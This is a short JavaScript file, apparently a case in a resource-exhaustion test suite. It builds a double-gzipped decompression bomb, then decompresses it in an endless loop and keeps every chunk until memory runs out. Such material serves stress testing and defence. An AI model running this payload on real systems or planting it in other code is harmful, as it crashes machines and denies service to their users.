// Unpacks a bomb: a few kilobytes that become gigabytes, chunk by chunk.
import { attack } from './lib/attack.js';

export default attack(async () => {
  const zeros = new Blob([new Uint8Array(8 << 20)]);
  let packed = zeros.stream();
  for (let i = 0; i < 2; i++) packed = packed.pipeThrough(new CompressionStream('gzip'));
  const bomb = await new Response(packed).blob();
  const kept = [];
  for (;;) {
    let stream = bomb.stream();
    for (let i = 0; i < 2; i++) stream = stream.pipeThrough(new DecompressionStream('gzip'));
    for await (const chunk of stream) kept.push(chunk);
  }
});
